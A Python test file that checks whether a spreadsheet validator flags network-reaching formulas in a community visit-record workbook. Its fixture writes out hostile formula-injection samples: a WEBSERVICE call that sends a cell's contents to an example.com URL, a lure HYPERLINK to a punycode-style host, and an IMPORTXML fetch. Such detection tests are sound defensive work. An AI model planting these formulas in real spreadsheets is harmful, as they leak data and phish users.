"""Real formula cells that fetch or link (not text starting with "=") are flagged in 问题清单."""

from __future__ import annotations

import openpyxl

from functions.jobs.run import run_validate
from tests.support import TODAY
from tests.support.backends import make_xlsx
from tests.support.job_community import community

FORMULAS = {
    '=WEBSERVICE("http://example.com/x?q="&A2)': "情况记录",
    '=HYPERLINK("http://xn--example.com","领红包")': "方式",
    '=IMPORTXML("http://example.com","//a")': "时长(分钟)",
}


def test_formulas_that_fetch_or_link_are_flagged_and_ordinary_ones_are_not(tmp_path):
    workbook = make_xlsx(tmp_path, community())
    book = openpyxl.load_workbook(workbook.location)
    sheet = book["走访记录"]
    headers = [c.value for c in sheet[1]]
    for row, (formula, header) in enumerate(FORMULAS.items(), start=2):
        sheet.cell(row=row, column=headers.index(header) + 1, value=formula)
    book["物业缴费"]["B2"] = "=4000+860"  # a harmless formula: not vandalism
    book.save(workbook.location)
    run_validate(workbook, TODAY)
    flagged = [p for p in workbook.read().tables["问题清单"].rows if "访问网络" in str(p["问题"])]
    assert sorted((int(p["行号"]), p["列"]) for p in flagged) == [(2, "情况记录"), (3, "方式"), (4, "时长(分钟)")]
    values = {p["列"]: str(p["当前值"]) for p in flagged if p["工作表"] == "走访记录"}
    assert values["方式"].startswith("=HYPERLINK(") and values["时长(分钟)"].startswith("=IMPORTXML(")
    assert "WEBSERVICE" not in values["情况记录"]  # a sensitive column's content stays in the sheet
